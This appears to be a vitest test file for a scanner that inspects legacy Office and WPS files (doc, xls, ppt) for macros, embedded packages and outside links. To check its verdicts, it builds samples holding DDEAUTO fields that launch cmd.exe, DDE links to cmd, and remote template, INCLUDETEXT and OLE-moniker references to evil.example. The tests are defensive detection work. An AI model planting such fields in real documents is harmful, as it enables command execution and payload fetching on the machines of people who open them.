import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { answers, compound, looksInto, older, packed, record, types } from '../../../test/factories/documents.ts';

const { taken, macros, holds, reaches, broken, starts } = answers;
const u16 = (...of: number[]) => Buffer.from(Uint16Array.from(of).buffer);
const u32 = (...of: number[]) => Buffer.from(Uint32Array.from(of).buffer);
const wide = (words: string) => Buffer.from(words, 'utf16le');

/** An older document of small or large sectors, in which the start of a sheet is parted after so many of its bytes. */
function parted(start: string, after: number, how: 'small' | 'large' | 'apart', sectorBytes = 512): Buffer {
  const sheet = Buffer.from(start, 'hex');
  const file = Buffer.alloc(sectorBytes * 8, 'x');
  const sector = (n: number) => (n + 1) * sectorBytes;
  file.fill(0, 0, sectorBytes).write('d0cf11e0a1b11ae1', 'hex');
  file.writeUInt16LE(Math.log2(sectorBytes), 30);
  for (let at = 76; at < 512; at += 4) file.writeUInt32LE(0xffffffff, at);
  for (const [at, value] of [
    [48, 1],
    [60, 5],
    [68, 0xfffffffe],
    [76, 0],
  ] as const)
    file.writeUInt32LE(value, at);
  for (const n of [0, 1, 5]) file.fill(0xff, sector(n), sector(n) + sectorBytes);
  const follows = (table: number, n: number, next: number) => file.writeUInt32LE(next, sector(table) + n * 4);
  for (const n of [1, 2, 4, 5]) follows(0, n, 0xfffffffe);
  // The root stands first in the directory, and the small sectors in the stream that begins there.
  file.fill(0, sector(1), sector(1) + sectorBytes).writeUInt32LE(4, sector(1) + 116);
  const [begins, goesOn] = how === 'small' ? [sector(4) + 64 * 4, sector(4) + 64] : [sector(3), sector(2)];
  const size = how === 'small' ? 64 : sectorBytes;
  sheet.copy(file, begins + size - after, 0, after);
  sheet.copy(file, goesOn, after);
  if (how === 'small') follows(5, 4, 1);
  if (how === 'large') follows(0, 3, 2);
  return file;
}

describe('older documents', () => {
  const program = compound({ PROJECT: Buffer.from('ID='), _VBA_PROJECT: Buffer.alloc(5000, 1) });
  const info = (has: number, place = has) => record(0x1f, 0x03ff, record(2, 0x0400, u32(place, has, 2)));
  const folded = (object: Buffer, kind = 0x10) =>
    record(kind, 0x1011, Buffer.concat([u32(object.length), deflateSync(object)]));
  const slides = (...records: Buffer[]) =>
    compound({
      'Current User': Buffer.alloc(64),
      'PowerPoint Document': Buffer.concat([record(15, 0x03e8, Buffer.alloc(3000, 7)), ...records]),
    });

  it('that are presentations keep their program folded, wherever it lies and whatever says that it is there', async () => {
    const spoilt = folded(program);
    spoilt.fill(0, spoilt.length - 4);
    for (const [i, bytes] of [
      slides(info(1), folded(program)),
      // As it is said alone, and as it is there alone.
      slides(info(1)),
      slides(info(0), folded(program)),
      slides(info(0), folded(program, 0), record(15, 0x03f0, Buffer.alloc(5000))),
      slides(Buffer.from('xyz'), folded(program)),
      slides(record(0x10, 0x1011, Buffer.concat([u32(9), deflateSync(program, { level: 0 })]))),
      slides(spoilt),
      // In a presentation within.
      slides(folded(slides(folded(program)))),
      slides(record(0, 0x1011, slides(folded(program)))),
    ].entries())
      for (const name of ['讲稿.ppt', '讲稿.dps'])
        expect(await looksInto(name, bytes), `${name} ${i}`).toMatchObject(macros);
    const other = compound({ Package: await packed({ '[Content_Types].xml': types() }) });
    expect(await looksInto('讲稿.ppt', slides(folded(other)))).toMatchObject(holds);
    expect(
      await looksInto('讲稿.docx', await packed({ 'ppt/embeddings/a.bin': slides(folded(program)) })),
    ).toMatchObject(macros);
  });

  it('that are presentations are taken with what they have: their charts, and the line that says there is no program', async () => {
    const chart = Buffer.concat([
      record(0x0809, 16, Buffer.alloc(0)).subarray(0, 2),
      u16(16, 0x0680, 5, 0, 0, 0, 0, 0, 0),
      u16(10, 0),
      Buffer.alloc(4200),
    ]);
    for (const [i, bytes] of [
      slides(info(0)),
      slides(info(0, 5), folded(compound({ CONTENTS: Buffer.alloc(6000) }))),
      slides(info(0), folded(compound({ Workbook: chart }))),
      slides(Buffer.from('0f00ff03000411100000', 'hex'), Buffer.alloc(5000, 'ÿ'), Buffer.from('ff03', 'hex')),
    ].entries())
      expect(await looksInto('讲稿.ppt', bytes), `${i}`).toMatchObject(taken);
  });

  it('are unfolded no further than documents within documents are', async () => {
    const zeros = deflateSync(Buffer.alloc(70 * 1024 * 1024));
    expect(await looksInto('讲稿.ppt', slides(record(0x10, 0x1011, Buffer.concat([u32(1), zeros]))))).toMatchObject(
      answers.tooLarge,
    );
    // Each of them is small, and all of them are not.
    const some = Buffer.concat([u32(1), deflateSync(Buffer.alloc(2 * 1024 * 1024))]);
    const many = Array.from({ length: 40 }, () => record(0x10, 0x1011, some));
    expect(await looksInto('讲稿.ppt', slides(...many))).toMatchObject(answers.tooLarge);
    // Objects that lie in one another say the same bytes over and over.
    const inOneAnother = Array.from({ length: 200 }, (_, i) =>
      Buffer.concat([u16(0x10, 0x1011), u32((200 - i) * 14 + 40), u32(1), Buffer.from('789c', 'hex')]),
    );
    expect(await looksInto('讲稿.ppt', slides(...inOneAnother, Buffer.alloc(100)))).toMatchObject({ status: 400 });
  });

  it('that are presentations lie in one another three deep, their bytes in four of them at most, and may be short', async () => {
    const nested = (deep: number): Buffer => slides(deep ? folded(nested(deep - 1)) : Buffer.alloc(0));
    expect(await looksInto('讲稿.ppt', nested(3))).toMatchObject(taken);
    expect(await looksInto('讲稿.ppt', nested(4))).toMatchObject(broken);
    const inEachOther = (many: number) =>
      Array.from({ length: many }, (_, i) => {
        const rest = (many - i) * 618;
        return Buffer.concat([u16(0x10, 0x1011), u32(rest), Buffer.from('d0cf11e0', 'hex'), Buffer.alloc(606)]);
      });
    expect(await looksInto('讲稿.ppt', slides(...inEachOther(4)))).toMatchObject(taken);
    expect(await looksInto('讲稿.ppt', slides(...inEachOther(20)))).toMatchObject(broken);
    expect(await looksInto('讲稿.ppt', slides(folded(Buffer.alloc(2))))).toMatchObject(taken);
    // Whatever looks like the start of an object just before one; and whatever number says that there is a program.
    expect(await looksInto('讲稿.ppt', slides(Buffer.from('1110', 'hex'), folded(program)))).toMatchObject(macros);
    expect(await looksInto('讲稿.ppt', slides(info(2)))).toMatchObject(macros);
  });

  it('name what holds a program wherever they are read in pieces, and however many names they have', async () => {
    const first = older('_VBA_PROJECT', 0).length - 640;
    for (const before of [-127, -64, -1])
      expect(await looksInto('通知.doc', older('_VBA_PROJECT', 2 ** 20 - first + before)), `${before}`).toMatchObject(
        macros,
      );
    const both = Buffer.concat([compound({ Package: Buffer.alloc(5000) }), wide('_VBA_PROJECT\0')]);
    expect(await looksInto('通知.doc', both)).toMatchObject(holds);
  });

  it('are found where the start of a sheet of programs is parted over sectors, and only where these belong together', async () => {
    for (const start of ['0908100000064000', '0908080000064000'])
      for (const after of [1, 4, 6, 7])
        for (const how of ['small', 'large'] as const)
          for (const sectorBytes of [512, 4096])
            expect(
              await looksInto('名单.xls', parted(start, after, how, sectorBytes)),
              `${how} ${after}`,
            ).toMatchObject(macros);
    // A sheet of numbers that is parted there, beside a sector of something else.
    for (const after of [1, 4, 6])
      expect(await looksInto('名单.xls', parted('0908100000064000', after, 'apart')), `${after}`).toMatchObject(taken);
    expect(await looksInto('名单.xls', parted('0908100000061000', 6, 'large'))).toMatchObject(taken);
  });

  const start = (version: number, kind: number, number = 0x0809) => u16(number, 8, version, kind, 0, 0);
  const sheetLine = (place: number, kind: number) =>
    Buffer.concat([u16(0x85, 8), u32(place), Buffer.from([0, kind, 0, 0])]);
  /** A book of one sheet, with more records before its sheets are named. */
  const book = (kind: number, sheet: Buffer, more: Buffer = Buffer.alloc(0), version = 0x0600) => {
    const place = 12 + more.length + 12 + 4;
    const all = [start(version, 5), more, sheetLine(place, kind), u16(10, 0), sheet, u16(10, 0), Buffer.alloc(5000)];
    return compound({ Workbook: Buffer.concat(all) });
  };

  const link = (path: string) => {
    const said = Buffer.concat([u16(0, path.length), Buffer.from(`\0${path}`, 'latin1')]);
    return Buffer.concat([u16(0x1ae, said.length), said]);
  };

  it('that are sheets are of numbers or charts, of the versions that programs write today', async () => {
    for (const [i, [bytes, answer]] of [
      [book(1, start(0x0600, 0x10)), macros],
      [book(6, start(0x0600, 0x10)), macros],
      [book(0, start(0x0600, 0x06)), macros],
      [book(0, start(0, 0x40)), macros],
      [book(0, start(0x0600, 0x0140)), broken],
      [book(0, start(0, 0x10)), broken],
      [book(0, start(0x0600, 0x10, 0x0409)), broken],
      [compound({ Book: Buffer.concat([start(0, 0x0100, 0x0409), Buffer.alloc(5000)]) }), broken],
      // As long as the first that lies in large sectors.
      [compound({ Workbook: Buffer.concat([start(0, 0x40), Buffer.alloc(4084)]) }), macros],
    ].entries() as unknown as [number, [Buffer, object]][])
      for (const name of ['名单.xls', '名单.et'])
        expect(await looksInto(name, bytes), `${name} ${i}`).toMatchObject(answer);
    for (const [i, bytes] of [
      book(0, start(0x0600, 0x10)),
      book(2, start(0x0600, 0x20)),
      book(0, start(0x0500, 0x10), Buffer.alloc(0), 0x0500),
      // Where it is locked, nothing is plain but where a sheet lies.
      book(0x93, start(0x0600, 0x10), u16(0x2f, 4, 1, 1)),
      book(0x93, start(0x0600, 0x10), Buffer.concat([u16(0x2f, 4, 1, 1), link('cmd\x03a')])),
      // A sheet alone; and what lies behind the end of the list of sheets, which is none of it.
      compound({ Workbook: Buffer.concat([start(0x0500, 0x10), u16(10, 0), Buffer.alloc(5000)]) }),
      book(0, Buffer.concat([start(0x0600, 0x10), sheetLine(0, 1)])),
    ].entries())
      expect(await looksInto('名单.xls', bytes), `${i}`).toMatchObject(taken);
  });

  it('that are sheets ask no other program, and may take numbers of another sheet', async () => {
    expect(await looksInto('名单.xls', book(0, start(0x0600, 0x10), link("cmd\x03'/c calc'!A0")))).toMatchObject(holds);
    expect(await looksInto('名单.xls', book(0, start(0x0600, 0x10), link("'cmd'\x03a")))).toMatchObject(holds);
    const olderLink = Buffer.concat([u16(0x17, 5), Buffer.from('\x04cmd\x03', 'latin1')]);
    expect(await looksInto('名单.xls', book(0, start(0x0500, 0x10), olderLink, 0x0500))).toMatchObject(holds);
    expect(await looksInto('名单.xls', book(0, start(0x0600, 0x10), link('\x01\x01Ddir\x03a.xls')))).toMatchObject(
      taken,
    );
  });

  /** A text with these words, whose template is of that name. */
  const words = (said: Buffer, template = '', more: Record<string, Buffer> = {}, table = 1) => {
    const document = Buffer.alloc(1024);
    document.writeUInt16LE(0xa5ec, 0);
    document.writeUInt16LE(table * 0x0200, 0x0a);
    const names = Buffer.concat([u16(0xffff, 2, 0, 1), wide('甲'), u16(template.length), wide(template)]);
    document.writeUInt32LE(32, 0x19a);
    document.writeUInt32LE(names.length, 0x19e);
    const lists = Buffer.concat([Buffer.alloc(32), names, Buffer.alloc(5000)]);
    return compound({
      WordDocument: Buffer.concat([document, said, Buffer.alloc(5000)]),
      [`${table}Table`]: lists,
      ...more,
    });
  };

  it('that are texts ask no other program, and have their template on the own disk', async () => {
    for (const said of ['\x13 DDEAUTO c:\\\\cmd.exe "/k calc" \x14', '\x13dde "a" "b"\x15']) {
      expect(await looksInto('通知.doc', words(Buffer.from(said)))).toMatchObject(holds);
      expect(await looksInto('通知.wps', words(wide(said)))).toMatchObject(holds);
    }
    for (const template of [
      'http://evil.example/a.dot',
      '\\\\evil.example\\a.dot',
      'file://evil.example/a.dot',
      '//evil/a',
      'https://a',
    ])
      for (const table of [0, 1])
        expect(await looksInto('通知.doc', words(wide('通知'), template, {}, table)), template).toMatchObject(reaches);
    for (const template of ['', 'Normal.dot', 'C:\\Templates\\a.dot'])
      expect(
        await looksInto('通知.doc', words(wide('\x13 TOC \\o "1-3" \x14DDE 是什么'), template)),
        template,
      ).toMatchObject(taken);
  });

  it('hold no field that takes something from elsewhere or leads to a program, in any letters', async () => {
    for (const as of [wide, (said: string) => Buffer.from(said, 'latin1')])
      for (const [instruction, answer] of [
        [' INCLUDETEXT "\\\\\\\\evil\\\\a.doc" ', reaches],
        [' INCLUDEPICTURE "\\\\\\\\evil\\\\a.png" ', reaches],
        [' IMPORT "\\\\\\\\evil\\\\a.png" ', reaches],
        [' RD "\\\\\\\\evil\\\\a.doc" ', reaches],
        [' LINK Word.Document "http://evil.example/a" ', reaches],
        [' HYPERLINK "C:\\\\a.exe" ', starts],
        [' HYPERLINK "https://example.org/" ', taken],
      ] as const)
        expect(await looksInto('通知.doc', words(as(`通知\x13${instruction}\x14一\x15`))), instruction).toMatchObject(
          answer,
        );
  });

  it('are read in large sectors as in small ones, and say the same sectors no more than so often', async () => {
    const link = Buffer.concat([Buffer.alloc(4200), Buffer.from('\\\\evil.example\\a')]);
    for (const [ole, a] of [[link], [link.subarray(4000), Buffer.alloc(9000)]] as const)
      expect(await looksInto('通知.doc', compound({ '\u0001Ole': ole, ...(a && { a }) }, 4096))).toMatchObject(reaches);
    // Of long files the table is said in several places, and in lists of these.
    for (const bytes of [1_000_000, 15_600_000])
      expect(await looksInto('通知.doc', compound({ a: Buffer.alloc(bytes), '\u0001Ole': link }))).toMatchObject(
        reaches,
      );
    const again = (many: number) => {
      const lines = Array.from({ length: many }, (_, n) => [`x${n}`, Buffer.alloc(0)]);
      const file = compound({ '\u0001Ole': Buffer.alloc(6000), ...Object.fromEntries(lines) });
      const at = file.indexOf(wide('\u0001Ole'));
      for (let n = 1; n <= many; n++) file.copy(file, at + n * 128, at, at + 128);
      return file;
    };
    expect(await looksInto('通知.doc', again(1))).toMatchObject(taken);
    expect(await looksInto('通知.doc', again(6))).toMatchObject(broken);
  });

  it('hold no other file, and no object that lies on another machine', async () => {
    const sheet = await packed({ '[Content_Types].xml': types(), 'xl/workbook.xml': '<w/>' });
    for (const name of ['Package', 'package', '\u0001Ole10Native', '\u0001OLE10NATIVE'])
      for (const file of ['通知.doc', '名单.xls', '讲稿.ppt', '通知.wps', '名单.et'])
        expect(await looksInto(file, compound({ [name]: sheet })), `${name} ${file}`).toMatchObject(holds);
    const address = Buffer.concat([
      Buffer.from('0100000201000000000000000000000068000000e0c9ea79f9bace118c8200aa004ba90b', 'hex'),
      u32(0x40),
      wide('evil.example/a.hta'),
    ]);
    const folder = Buffer.concat([Buffer.alloc(20), Buffer.from('\\\\evil.example\\a')]);
    // A script, and what is made anew of a class: found by their own classes, written as they lie in a file.
    const classes = [
      'd30b2906aa48d2118432006008c3fbfc',
      'c6afabec197fd211978e0000f8757e2a',
      'c7b0abec197fd211978e0000f8757e2a',
    ];
    const found = classes.map((hex) => Buffer.from(`0100000201000000000000000000000068000000${hex}`, 'hex'));
    found.push(...['//evil.example/a.doc', '\\/evil.example/a'].flatMap((l) => [wide(l), Buffer.from(l)]));
    for (const link of [address, folder, Buffer.concat([address, Buffer.alloc(5000)]), ...found])
      for (const name of ['\u0001Ole', '\u0003LinkInfo'])
        expect(await looksInto('通知.doc', words(wide('通知'), '', { [name]: link }))).toMatchObject(reaches);
    const plain = Buffer.from('0100000200000000000000000000000000000000', 'hex');
    expect(await looksInto('通知.doc', words(wide('通知'), '', { '\u0001Ole': plain }))).toMatchObject(taken);
  });
});
